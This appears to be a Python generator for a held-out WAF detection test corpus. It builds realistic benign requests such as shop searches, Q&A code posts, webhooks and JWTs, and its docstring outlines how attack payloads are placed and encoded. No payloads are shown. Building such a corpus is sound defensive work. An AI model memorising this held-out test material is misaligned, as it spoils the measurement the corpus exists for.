"""A ninth, held-out corpus for `make eval-detection`, weighted towards false
positives: what a demanding user of a WAF would throw at it before trusting
the promise that the default configuration blocks none of a corpus of
realistic benign requests. It holds 666 benign requests of 25 kinds and 264
attack requests. It was written without reading the rules, the detectors,
the documentation or the reports of earlier runs, nor the payloads and texts
of the other corpora (only tests/detection/README.md and the request
helpers of generate.py), and committed before its first run: that run
measures how the detection generalises.

    python3 tests/detection/ninth_corpus.py OUT_FILE

Sites: a developer Q&A site (ask.devhub.example), a pastebin/snippet
service (paste.devhub.example), a shop with a support desk, a CMS and a
blog (shop.example and subdomains), a JSON API with mobile clients.

Benign (class "benign", `placement` names the kind; counts):

  page 24           browser GETs of pages and assets: long analytics,
                    consent and A/B cookies, Referers from search engines
                    with queries such as "is 1=1 true in sql", many Accept
                    headers, sec-ch-ua, conditional headers
  shop_search 40    shop searches and autocomplete: "union station select
                    seats", "drop me a line notecards", "<3 valentines
                    mug", "o'neill wetsuit 4/3", "wall clock -roman",
                    "table lamp < 50€", Japanese, Russian
  qa_search 28      Q&A searches: "how to escape single quote in sql",
                    "what does 2>&1 mean", "[bash] rm -rf node_modules ..."
  qa_question 42    questions posted as forms: a title, prose and code in
                    a fenced, tilde-fenced or indented Markdown block
  qa_answer 30      answers posted as JSON, prose and code
  paste 50          snippets posted as multipart forms, in a field or as a
                    file
  paste_api 30      snippets posted as JSON (gist-like) or PUT raw
  support_email 30  inbound e-mail webhooks (JSON with HTML part and mail
                    headers, or multipart form): signatures, disclaimers,
                    quoted replies, forwarded headers in the text
  support_form 34   contact form messages in several languages naming SQL,
                    shell, cron syntax, HTML entities, apostrophes
  review 33         product reviews as JSON: quotes, emoticons, ">:(",
                    "¯\\_(ツ)_/¯", prices, percentages, inline code
  address 30        checkout address forms: names with apostrophes,
                    hyphens and other scripts, addresses in 29 countries,
                    delivery notes ("Gate code 4#21*")
  profile 20        profile PATCH: display names and developer bios
  cms_html 22       rich-text HTML from editors (tables, figures, iframes,
                    <details>, Word paste, <pre><code> with SQL, data URL
                    icon, merge tags) as forms or JSON:API
  cms_markdown 22   Markdown with tables, links, task lists, code, Liquid
                    macros, as wiki JSON or Q&A edit forms
  json_api 25       orders, JSON Patch, analytics batches, calendar events,
                    preferences, search DSL, returns; ids, ISO dates
  jwt_api 20        bearer JWTs in headers, a query parameter (event
                    stream) and cookies; token refresh and introspection
  graphql 22        queries and mutations with variables, fragments,
                    directives, comments, persisted-query GETs
  webhook 32        payment (Stripe-, PayPal-, Adyen-like), shipping and CI
                    (GitHub, GitLab, CircleCI) JSON, Slack commands and SMS
                    forms, with HMAC signature headers computed on the body
  upload_csv 15     multipart CSV/TSV imports (products, contacts, a bank
                    statement, timesheets)
  upload_text 15    multipart text attachments (notes, logs, .env.example,
                    a schema, a crontab, a .po file)
  data_url 20       base64 images: data URLs in JSON and forms, raw base64
  mobile 24         app calls with custom X- headers (device, OS, locale,
                    timezone, carrier, screen, push token, flags)
  chat 22           support chat messages
  comment 24        blog comments (WordPress form)
  oauth 12          OAuth/OIDC callbacks, PKCE authorize, token, login
                    redirects, a base64 SAML response

The 122 code texts behind the Q&A and snippet kinds are SQL (PostgreSQL,
MySQL, T-SQL, SQLite), bash, PowerShell, Python, JavaScript/TypeScript/TSX,
HTML, PHP, Java, Go, Rust, C#/Razor, Ruby/ERB, Kotlin, Swift, C, CSS, batch,
Makefile, Terraform, TOML, GraphQL SDL, YAML (Kubernetes, Helm, GitHub
Actions, GitLab CI, Compose, Ansible), Dockerfiles, nginx and Apache
configs, log4j2 XML, regexes, stack traces (Java, Python, Node, .NET, PHP,
Go, Rust) and log excerpts. Every written text is used at least once.

Attacks: 88 payloads written for this corpus (sqli 8, xss 8,
path_traversal 7, cmdi 7, ldap 6, crlf 6, ssi 6, ssti 8, nosql 6, xxe 6,
jndi 6, php 7, ssrf 7), each in 3 of these 8 placements (every class
reaches every placement), in the fields the benign requests use:

  query    a search parameter (shop, Q&A), or for URL-like classes a
           preview `url=` or download `file=` parameter; NoSQL objects in
           `plain` as bracketed names (`customer_id[$ne]=`)
  forum    the body, title or tags of a Q&A question form
  snippet  the content or title of a snippet (multipart)
  json     a JSON API value: review body, gift message, snippet content,
           chat text, a website/import/webhook URL; NoSQL objects in
           `plain` as structure (login password, order lookup, filter)
  graphql  a GraphQL variable (NoSQL objects in a JSON filter variable)
  header   a mobile app's custom header (X-Locale, X-Device-Name, ...),
           or Referer / X-Callback-Url for URL-like classes
  cookie   one cookie among a long analytics/consent cookie header
  form     a blog comment, checkout address or contact form field;
           NoSQL objects in `plain` as a login form's bracketed names

Encodings (what the application sees after the placement's ordinary
decoding): plain 135, url 62 (percent-encoded once more), base64 67.
Header and cookie values send CR, LF and other controls (and `;` in
cookies) as %XX, as generate.header_safe does.
"""

import base64
import hashlib
import hmac
import json
import sys
import urllib.parse
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import generate as g  # noqa: E402

SEED = 9091
q = urllib.parse.quote
qp = urllib.parse.quote_plus

QA_HOST = "ask.devhub.example"
PASTE_HOST = "paste.devhub.example"
SHOP_HOST = "shop.example"
HELP_HOST = "help.shop.example"
CMS_HOST = "cms.shop.example"
API_HOST = "api.shop.example"
BLOG_HOST = "blog.shop.example"


# --------------------------------------------------------------------------
# Generated values: tokens, ids, cookies, images (no written text in them)
# --------------------------------------------------------------------------

def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


# generate.py's: unpadded base64url, a version-4 UUID from the seeded source.
b64url = g.b64url
uuid = g.uuid4


def iso(rng, year=2026, month=None) -> str:
    m = month or rng.randint(1, 12)
    return "%04d-%02d-%02dT%02d:%02d:%02d%s" % (
        year, m, rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59),
        rng.choice(["Z", ".%03dZ" % rng.randint(0, 999), "+01:00", "-05:00", "+09:00"]))


def epoch(rng) -> int:
    return 1764500000 + rng.randint(0, 3000000)


def jwt(rng, who=None) -> str:
    """A JWT of an identity provider: header, realistic claims, random signature."""
    alg = rng.choice(["RS256", "RS256", "ES256", "HS256", "PS256"])
    head = {"alg": alg, "typ": "JWT"}
    if alg != "HS256":
        head["kid"] = rng.choice([b64url(rng.randbytes(12)), rng.randbytes(20).hex(), "key-%d" % rng.randint(1, 9)])
    now = epoch(rng)
    claims = {"iss": rng.choice(["https://login.devhub.example/", "https://auth.shop.example", "https://idp.example.com/realms/staff",
                                 "https://cognito-idp.eu-west-1.amazonaws.example/eu-west-1_Q3xR7"]),
              "sub": rng.choice([str(rng.randint(10000, 999999)), uuid(rng), "auth0|" + rng.randbytes(12).hex()]),
              "aud": rng.choice(["shop-api", "devhub-web", ["shop-api", "shop-mobile"], "account"]),
              "iat": now, "nbf": now, "exp": now + rng.choice([300, 900, 3600, 86400])}
    style = rng.randint(0, 4)
    if style == 0:
        claims.update(scope=rng.choice(["openid profile email", "read:orders write:cart", "pastes:write pastes:read offline_access"]))
    elif style == 1:
        claims.update(email=rng.choice(["ana.o'neill@example.ie", "dev+ci@example.org", "k.tanaka@example.jp"]), email_verified=True)
    elif style == 2:
        claims.update(roles=rng.sample(["customer", "editor", "support-agent", "moderator", "admin-readonly"], 2),
                      tenant=rng.choice(["eu-1", "us-2", "apac"]))
    elif style == 3:
        claims.update(name=who or "Seán Ó Briain", locale=rng.choice(["en-IE", "ga-IE", "pt-BR", "ja-JP"]),
                      amr=["pwd", "mfa"], acr="urn:mace:incommon:iap:silver")
    else:
        claims.update(azp="mobile-ios", sid=uuid(rng), at_hash=b64url(rng.randbytes(16)),
                      permissions=["orders:read", "profile:update"])
    sig = b64url(rng.randbytes({"ES256": 64, "HS256": 32}.get(alg, 256)))
    dump = lambda d: b64url(json.dumps(d, separators=(",", ":"), ensure_ascii=False).encode())
    return f"{dump(head)}.{dump(claims)}.{sig}"


def cookie_jar(rng, site="shop", extra=None) -> str:
    """A long browser cookie header: session, analytics, consent, A/B tests."""
    ts = epoch(rng)
    parts = []
    if site == "qa":
        parts.append(f"devhub_session={b64url(rng.randbytes(32))}")
        parts.append(f"prov={uuid(rng)}")
    elif site == "paste":
        parts.append(f"_paste_sess={rng.randbytes(20).hex()}")
    else:
        parts.append(f"sessionid={rng.randbytes(16).hex()}")
    optional = [
        lambda: f"_ga=GA1.1.{rng.randint(10**8, 10**9)}.{ts}",
        lambda: f"_ga_{rng.randbytes(5).hex().upper()}=GS2.1.s{ts}$o{rng.randint(1, 90)}$g1$t{ts + 120}$j{rng.randint(10, 60)}$l0$h0",
        lambda: f"_gcl_au=1.1.{rng.randint(10**8, 10**10)}.{ts}",
        lambda: f"_fbp=fb.1.{ts}{rng.randint(100, 999)}.{rng.randint(10**9, 10**10)}",
        lambda: f"_clck={rng.randbytes(4).hex()}%7C2%7Cfr{rng.randint(1, 9)}%7C0%7C{rng.randint(1000, 2000)}",
        lambda: f"_clsk={rng.randbytes(5).hex()}%7C{ts}000%7C{rng.randint(1, 12)}%7C1%7Cq.clarity.ms%2Fcollect",
        lambda: "OptanonAlertBoxClosed=" + q(iso(rng), safe=""),
        lambda: "OptanonConsent=" + "isGpcEnabled=0&datestamp=" + q("Thu Dec 03 2026 18:%02d:%02d GMT+0000 (Greenwich Mean Time)" % (
            rng.randint(0, 59), rng.randint(0, 59)), safe="") + "&version=202411.2.0&browserGpcFlag=0&isIABGlobal=false"
            "&hosts=&consentId=" + uuid(rng) + "&interactionCount=1&landingPath=NotLandingPage"
            "&groups=C0001%3A1%2CC0002%3A" + str(rng.randint(0, 1)) + "%2CC0003%3A1%2CC0004%3A" + str(rng.randint(0, 1))
            + "&AwaitingReconsent=false",
        lambda: "CookieConsent=" + q("{stamp:'" + b64(rng.randbytes(42)) + "',necessary:true,preferences:true,statistics:"
                                     + rng.choice(["true", "false"]) + ",marketing:false,method:'explicit',ver:3,utc:"
                                     + str(ts) + "000,region:'gb'}", safe=""),
        lambda: "euconsent-v2=CQ" + b64url(rng.randbytes(60)).replace("-", "A").replace("_", "B") + ".YAAAAAAAAAAA",
        lambda: f"_hjSession_{rng.randint(10**6, 10**7)}=" + b64url(json.dumps(
            {"id": uuid(rng), "c": ts * 1000, "s": 0, "r": 0, "sb": 0, "sr": 0, "se": 0, "fs": 1, "sp": 0}).encode()),
        lambda: "ajs_user_id=" + q(json.dumps(str(rng.randint(10000, 99999))), safe=""),
        lambda: f"amp_{rng.randbytes(3).hex()}={b64url(rng.randbytes(24))}...1ig{rng.randbytes(3).hex()}.1ig{rng.randbytes(3).hex()}.{rng.randint(1, 40)}.{rng.randint(0, 9)}.{rng.randint(1, 50)}",
        lambda: f"__cf_bm={b64url(rng.randbytes(30))}-{ts}-1.0.1.1-{b64url(rng.randbytes(60))}",
        lambda: f"cf_clearance={b64url(rng.randbytes(32))}-{ts}-1.2.1.1-{b64url(rng.randbytes(90))}",
        lambda: f"XSRF-TOKEN={q(b64(rng.randbytes(40)), safe='')}",
        lambda: f"lang={rng.choice(['en', 'en-GB', 'de', 'fr-CA', 'pt-BR', 'ja', 'ga'])}",
        lambda: f"tz={q(rng.choice(['Europe/Dublin', 'America/Sao_Paulo', 'Asia/Tokyo', 'Australia/Perth']), safe='')}",
        lambda: "currency=" + rng.choice(["EUR", "GBP", "USD", "JPY", "BRL"]),
        lambda: "recent_tags=" + q(",".join(rng.sample(["sql", "postgresql", "bash", "python", "regex", "kubernetes",
                                                           "nginx", "powershell", "rust", "c#"], 4)), safe=""),
        lambda: "editor_prefs=" + b64url(json.dumps({"theme": rng.choice(["monokai", "solarized-light", "github-dark"]),
                                                     "tab": rng.choice([2, 4]), "wrap": True}).encode()),
        lambda: "split_test=" + q(f"home_hero:v{rng.randint(1, 3)}|checkout_flow:{rng.choice(['a', 'b'])}|seat_picker:control", safe=""),
        lambda: f"_pk_ses.3.{rng.randbytes(2).hex()}=1",
        lambda: f"_dd_s=rum=2&id={uuid(rng)}&created={ts}000&expire={ts + 900}000",
        lambda: f"__stripe_mid={uuid(rng)}{rng.randbytes(3).hex()}",
        lambda: f"__stripe_sid={uuid(rng)}{rng.randbytes(3).hex()}",
        lambda: "wishlist=" + "%2C".join(str(rng.randint(10000, 99999)) for _ in range(rng.randint(1, 9))),
        lambda: "remember_web_59ba36addc2b2f9401580f014c7f58ea4e30989d=" + q(b64(rng.randbytes(90)), safe=""),
    ]
    for make in rng.sample(optional, rng.randint(3, 14)):
        parts.append(make())
    if extra:
        name = extra.split("=", 1)[0]
        parts = [x for x in parts if x.split("=", 1)[0] != name]
        parts.insert(rng.randint(0, len(parts)), extra)
    return "; ".join(parts)


def image_bytes(rng, kind, size):
    head = {
        "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + rng.randint(16, 512).to_bytes(4, "big") * 2 + b"\x08\x06\x00\x00\x00",
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x01\x00H\x00H\x00\x00\xff\xdb\x00C\x00",
        "gif": b"GIF89a" + rng.randbytes(4) + b"\xf7\x00\x00",
        "webp": b"RIFF" + (size + 12).to_bytes(4, "little") + b"WEBPVP8L",
        "avif": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf",
        "ico": b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00 \x00",
    }[kind]
    return head + rng.randbytes(size)


def data_url(rng, kinds=("png", "jpeg", "gif", "webp", "avif", "svg")) -> str:
    kind = rng.choice(kinds)
    if kind == "svg":
        w = rng.randint(16, 96)
        svg = (f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {w} {w}" width="{w}" height="{w}">'
               f'<circle cx="{w // 2}" cy="{w // 2}" r="{w // 2 - 1}" fill="#{rng.randbytes(3).hex()}"/>'
               f'<text x="50%" y="55%" text-anchor="middle" font-family="sans-serif" font-size="{w // 3}" fill="#fff">'
               f'{rng.choice(["AO", "ŁW", "JN", "SÓ", "李", "MK"])}</text></svg>')
        return "data:image/svg+xml;base64," + b64(svg.encode())
    size = rng.choice([rng.randint(60, 600), rng.randint(600, 4000), rng.randint(4000, 16000)])
    mime = {"ico": "x-icon"}.get(kind, kind)
    return f"data:image/{mime};base64," + b64(image_bytes(rng, kind, size))


# --------------------------------------------------------------------------
# Headers
# --------------------------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; SM-S921B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.39 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1",
]

ACCEPT_HTML = [
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/png,image/svg+xml,*/*;q=0.8",
]
ACCEPT_OTHER = [
    "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8",
    "text/css,*/*;q=0.1",
    "application/json, text/plain, */*",
    "application/json",
    "*/*",
    "application/javascript, */*;q=0.8",
    "application/vnd.api+json",
    "application/graphql-response+json, application/json;q=0.9",
    "text/event-stream",
]
LANGS = ["en-GB,en;q=0.9", "en-US,en;q=0.9", "en-IE,en-GB;q=0.9,en;q=0.8,ga;q=0.6", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7",
         "fr-CA,fr;q=0.9,en-CA;q=0.8,en;q=0.7", "pt-BR,pt;q=0.9,en-US;q=0.8,en;q=0.7", "ja,en-US;q=0.9,en;q=0.8",
         "pl-PL,pl;q=0.9,en-US;q=0.8,en;q=0.7", "zh-CN,zh;q=0.9,en;q=0.8", "ar,en-US;q=0.7,en;q=0.3",
         "es-419,es;q=0.9", "ko-KR,ko;q=0.9,en-US;q=0.8,en;q=0.7", "*"]
SEC_CH_UA = ['"Google Chrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
             '"Microsoft Edge";v="130", "Chromium";v="130", "Not?A_Brand";v="99"',
             '"Chromium";v="129", "Not=A?Brand";v="8"']


def browser(rng, host, accept=None, referer=None, cookie=True, site="shop", fetch="navigate"):
    ua = rng.choice(BROWSER_UAS)
    h = [["Host", host], ["User-Agent", ua], ["Accept", accept or rng.choice(ACCEPT_HTML)],
         ["Accept-Language", rng.choice(LANGS)], ["Accept-Encoding", rng.choice(["gzip, deflate, br, zstd", "gzip, deflate, br", "gzip"])]]
    if "Chrome" in ua and "Edg" not in ua and rng.random() < 0.7:
        h += [["sec-ch-ua", rng.choice(SEC_CH_UA)], ["sec-ch-ua-mobile", "?1" if "Mobile" in ua else "?0"],
              ["sec-ch-ua-platform", '"Android"' if "Android" in ua else '"Windows"' if "Windows" in ua else '"macOS"']]
    if fetch:
        site_rel = "none" if not referer else "same-origin" if referer.startswith(f"https://{host}/") else "cross-site"
        h += [["Sec-Fetch-Site", site_rel if fetch == "navigate" else "same-origin"],
              ["Sec-Fetch-Mode", fetch], ["Sec-Fetch-Dest", "document" if fetch == "navigate" else "empty"]]
        if fetch == "navigate":
            h.append(["Upgrade-Insecure-Requests", "1"])
    if referer:
        h.append(["Referer", referer])
    if cookie:
        h.append(["Cookie", cookie_jar(rng, site)])
    if rng.random() < 0.25:
        h.append(["DNT", "1"])
    if rng.random() < 0.2:
        h.append(["Priority", rng.choice(["u=0, i", "u=1", "u=4"])])
    return h


def xhr(rng, host, site="shop", referer_path="/", accept="application/json, text/plain, */*"):
    h = browser(rng, host, accept=accept, referer=f"https://{host}{referer_path}", site=site, fetch="cors")
    h += [["Origin", f"https://{host}"], ["X-Requested-With", "XMLHttpRequest"]] if rng.random() < 0.4 else [["Origin", f"https://{host}"]]
    if rng.random() < 0.6:
        h.append(["X-CSRF-Token", b64url(rng.randbytes(32))])
    return h


def api(rng, host=API_HOST, auth=True, ua=None):
    h = [["Host", host], ["User-Agent", ua or rng.choice(["shop-sdk-python/3.4.1 python/3.12.7", "axios/1.7.7", "okhttp/4.12.0",
                                                             "Go-http-client/2.0", "curl/8.11.0", "node-fetch/3.3.2",
                                                             "Java/21.0.5", "PostmanRuntime/7.43.0"])],
         ["Accept", rng.choice(["application/json", "application/json, */*;q=0.5", "*/*"])]]
    if auth:
        h.append(["Authorization", "Bearer " + jwt(rng)])
    return h + g.api_headers(rng)


MOBILE_DEVICES = [
    ("iOS", "18.1.1", "iPhone16,2", "Apple", "1290x2796@3x"), ("iOS", "17.6.1", "iPhone14,5", "Apple", "1170x2532@3x"),
    ("iOS", "18.0", "iPad13,18", "Apple", "1640x2360@2x"), ("Android", "14", "SM-S921B", "samsung", "1080x2340@3.0"),
    ("Android", "13", "Pixel 7a", "Google", "1080x2400@2.625"), ("Android", "12", "M2101K6G", "Xiaomi", "1080x2400@2.75"),
    ("Android", "15", "CPH2581", "OnePlus", "1440x3168@3.5"), ("Android", "11", "moto g(30)", "motorola", "720x1600@2.0"),
]
MOBILE_LOCALES = [("en_IE", "Europe/Dublin", "Three IE"), ("pt_BR", "America/Sao_Paulo", "Vivo"), ("ja_JP", "Asia/Tokyo", "NTT DOCOMO"),
                  ("de_AT", "Europe/Vienna", "A1"), ("en_AU", "Australia/Sydney", "Telstra"), ("fr_CA", "America/Montreal", "Videotron"),
                  ("ar_AE", "Asia/Dubai", "etisalat"), ("pl_PL", "Europe/Warsaw", "Play"), ("es_MX", "America/Mexico_City", "Telcel"),
                  ("ko_KR", "Asia/Seoul", "SKTelecom"), ("hi_IN", "Asia/Kolkata", "Jio 4G"), ("en_US", "America/Chicago", "T-Mobile")]


def mobile(rng, host=API_HOST):
    os_, osv, model, maker, screen = rng.choice(MOBILE_DEVICES)
    loc, tz, carrier = rng.choice(MOBILE_LOCALES)
    build = rng.randint(4000, 9999)
    ver = rng.choice(["5.12.0", "5.12.1", "5.11.4", "6.0.0-beta.3"])
    if os_ == "iOS":
        ua = f"ShopApp/{ver} ({model}; iOS {osv}; Scale/{screen[-2]}.00) Alamofire/5.9.1"
    else:
        ua = rng.choice([f"ShopApp/{ver} (Android {osv}; {maker} {model}; build {build}) okhttp/4.12.0", "okhttp/4.12.0",
                         f"Dart/3.5 (dart:io) ShopApp/{ver}"])
    h = [["Host", host], ["User-Agent", ua], ["Accept", "application/json"], ["Accept-Language", loc.replace("_", "-") + ";q=1.0, en;q=0.8"],
         ["X-App-Version", f"{ver} ({build})"], ["X-Platform", os_.lower()], ["X-OS-Version", osv],
         ["X-Device-Model", model], ["X-Device-Manufacturer", maker], ["X-Device-Id", uuid(rng).upper() if os_ == "iOS" else rng.randbytes(8).hex()],
         ["X-Locale", loc], ["X-Timezone", tz], ["X-Screen", screen]]
    optional = [["X-Carrier", carrier], ["X-Network", rng.choice(["wifi", "5g", "4g", "lte", "3g"])],
                ["X-Install-Id", uuid(rng)], ["X-Session-Start", iso(rng)], ["X-Battery", f"{rng.randint(5, 100)};{rng.choice(['charging', 'unplugged'])}"],
                ["X-Push-Token", rng.randbytes(32).hex() if os_ == "iOS" else b64url(rng.randbytes(24)) + ":APA91b" + b64url(rng.randbytes(100))],
                ["X-Device-Name", rng.choice(["Sean's iPhone", "iPhone (2)", "Maria's iPad", "Pixel de Zoe", "Galaxy S24 Ultra", "O'Reilly work phone"])],
                ["X-Ad-Id", "00000000-0000-0000-0000-000000000000" if rng.random() < 0.5 else uuid(rng).upper()],
                ["X-Feature-Flags", ",".join(rng.sample(["new_checkout", "dark_mode", "seat_map_v2", "apple_pay", "reorder_button"], 3))],
                ["X-Geo", f"{rng.uniform(-40, 60):.4f},{rng.uniform(-120, 150):.4f};acc={rng.randint(5, 80)}"],
                ["X-Idempotency-Key", uuid(rng)], ["X-Request-Id", uuid(rng)],
                ["X-Client-Capabilities", "webp,avif,hdr;push=apns" if os_ == "iOS" else "webp;push=fcm"],
                ["X-Accessibility", rng.choice(["font_scale=1.3", "voiceover=1", "reduce_motion=1;font_scale=1.0"])]]
    h += rng.sample(optional, rng.randint(2, 7))
    h.append(["Authorization", "Bearer " + jwt(rng)])
    return h


def boundary(rng):
    style = rng.randint(0, 2)
    if style == 0:
        return "----WebKitFormBoundary" + "".join(rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(16))
    if style == 1:
        return "-" * 27 + str(rng.randint(10**28, 10**29))
    return "-" * 24 + rng.randbytes(8).hex()


def multipart(rng, parts):
    """parts: (name, value) or (name, filename, content_type, content). Returns (content_type, body)."""
    b = boundary(rng)
    out = []
    for p in parts:
        if len(p) == 2:
            out.append(f'--{b}\r\nContent-Disposition: form-data; name="{p[0]}"\r\n\r\n{p[1]}\r\n')
        else:
            name, fn, ct, content = p
            out.append(f'--{b}\r\nContent-Disposition: form-data; name="{name}"; filename="{fn}"\r\nContent-Type: {ct}\r\n\r\n{content}\r\n')
    return f"multipart/form-data; boundary={b}", "".join(out) + f"--{b}--\r\n"


def post_json(method, uri, h, doc, ctype="application/json"):
    return g.request(method, uri, h + [["Content-Type", ctype]], json.dumps(doc, ensure_ascii=False))


def post_form(method, uri, h, fields):
    return g.request(method, uri, h + [["Content-Type", "application/x-www-form-urlencoded"]], g.form_body(fields))


def post_multipart(rng, uri, h, parts, method="POST"):
    ct, body = multipart(rng, parts)
    return g.request(method, uri, h + [["Content-Type", ct]], body)


def sign(secret: bytes, msg: str) -> str:
    return hmac.new(secret, msg.encode(), hashlib.sha256).hexdigest()


# --------------------------------------------------------------------------
# Code, written for this corpus: (fence, syntax, file name, question title,
# tags, code). Posted to the Q&A site and the snippet service.
# --------------------------------------------------------------------------

CODE = [
    ("sql", "postgresql", "monthly_revenue.sql", "Ranking countries by revenue per month with a window function", "sql postgresql window-functions", r'''
SELECT date_trunc('month', o.created_at) AS month,
       c.country,
       SUM(o.total_cents) / 100.0 AS revenue,
       RANK() OVER (PARTITION BY date_trunc('month', o.created_at)
                    ORDER BY SUM(o.total_cents) DESC) AS rnk
FROM orders o
JOIN customers c ON c.id = o.customer_id
WHERE o.status <> 'cancelled'
  AND o.created_at >= now() - interval '12 months'
GROUP BY 1, 2
ORDER BY 1, rnk;
'''),
    ("sql", "sql", "merge_subscribers.sql", "UNION removes rows I expected to keep when merging two subscriber lists", "sql union mysql", r'''
-- merge legacy and new subscribers into one export
SELECT email, first_name, 'legacy' AS source FROM legacy_subscribers WHERE opted_in = 1
UNION
SELECT email, first_name, 'app' AS source FROM app_users WHERE newsletter = TRUE
ORDER BY email;
'''),
    ("sql", "postgresql", "0042_paid_at.sql", "CREATE INDEX CONCURRENTLY cannot run inside a transaction block", "postgresql migrations", r'''
BEGIN;
ALTER TABLE invoices ADD COLUMN paid_at timestamptz;
UPDATE invoices SET paid_at = updated_at WHERE status = 'paid';
DROP INDEX IF EXISTS idx_invoices_status_old;
CREATE INDEX CONCURRENTLY idx_invoices_paid_at ON invoices (paid_at) WHERE paid_at IS NOT NULL;
COMMIT;
'''),
    ("sql", "postgresql", "dedupe_contacts.sql", "Delete duplicate contacts but keep the oldest row", "postgresql delete duplicates", r'''
DELETE FROM contacts a
USING contacts b
WHERE a.id > b.id
  AND lower(a.email) = lower(b.email);
'''),
    ("sql", "mysql", "readonly_user.sql", "Read-only MySQL user can still see other schemas?", "mysql permissions grant", r'''
CREATE USER 'report_ro'@'10.0.%' IDENTIFIED BY 'change-me-please';
GRANT SELECT ON analytics.* TO 'report_ro'@'10.0.%';
FLUSH PRIVILEGES;
SHOW GRANTS FOR 'report_ro'@'10.0.%';
'''),
    ("sql", "postgresql", "category_tree.sql", "Recursive CTE to print a category tree with indentation", "sql recursive-cte", r'''
WITH RECURSIVE tree AS (
    SELECT id, parent_id, name, 1 AS depth FROM categories WHERE parent_id IS NULL
    UNION ALL
    SELECT c.id, c.parent_id, c.name, t.depth + 1
    FROM categories c JOIN tree t ON c.parent_id = t.id
)
SELECT repeat('  ', depth - 1) || name AS label FROM tree ORDER BY depth, name;
'''),
    ("sql", "tsql", "busy_sessions.sql", "Which sessions are burning CPU on SQL Server right now?", "sql-server dmv performance", r'''
SELECT TOP (50) s.session_id, s.login_name, r.status, r.wait_type, t.text
FROM sys.dm_exec_sessions s
LEFT JOIN sys.dm_exec_requests r ON r.session_id = s.session_id
OUTER APPLY sys.dm_exec_sql_text(r.sql_handle) t
WHERE s.is_user_process = 1
ORDER BY r.cpu_time DESC;
'''),
    ("sql", "sqlite", "apostrophes.sql", "Finding names that start with O' or D' in SQLite", "sqlite escaping like", r'''
SELECT id,
       CASE WHEN name LIKE '%''%' THEN replace(name, '''', '''''') ELSE name END AS escaped_name
FROM people
WHERE name LIKE 'O''%' OR name LIKE 'D''%';
'''),
    ("sql", "postgresql", "touch_trigger.sql", "Trigger to keep updated_at current without touching every UPDATE", "postgresql triggers plpgsql", r'''
CREATE OR REPLACE FUNCTION touch_updated_at() RETURNS trigger AS $$
BEGIN
  NEW.updated_at := now();
  RETURN NEW;
END;
$$ LANGUAGE plpgsql;

CREATE TRIGGER trg_touch BEFORE UPDATE ON products
FOR EACH ROW EXECUTE FUNCTION touch_updated_at();
'''),
    ("sql", "postgresql", "reload_staging.sql", "TRUNCATE then INSERT ... SELECT is slow for the nightly staging copy", "postgresql etl", r'''
-- reset the staging copy before the nightly load
TRUNCATE TABLE staging.events RESTART IDENTITY;
INSERT INTO staging.events (id, kind, payload, created_at)
SELECT id, kind, payload, created_at FROM public.events WHERE created_at > current_date - 7;
SELECT count(*) FROM staging.events;
'''),
    ("sql", "mysql", "table_sizes.sql", "How big is each table in my MySQL schema?", "mysql information-schema", r'''
SELECT table_name,
       ROUND((data_length + index_length) / 1024 / 1024, 1) AS size_mb,
       table_rows
FROM information_schema.tables
WHERE table_schema = 'shop'
ORDER BY size_mb DESC
LIMIT 10;
'''),
    ("sql", "postgresql", "order_lines.sql", "string_agg with ORDER BY inside a GROUP BY", "postgresql aggregate", r'''
SELECT o.id,
       string_agg(p.sku || ' x' || l.qty, ', ' ORDER BY p.sku) AS lines
FROM orders o
JOIN order_lines l ON l.order_id = o.id
JOIN products p ON p.id = l.product_id
GROUP BY o.id
HAVING count(*) > 1;
'''),
    ("sql", "sql", "seats.sql", "Selecting free adjacent seats for a booking", "sql gaps-and-islands", r'''
-- find runs of at least 3 free seats in the same row
SELECT row_label, min(seat_no) AS first_seat, max(seat_no) AS last_seat
FROM (
    SELECT row_label, seat_no,
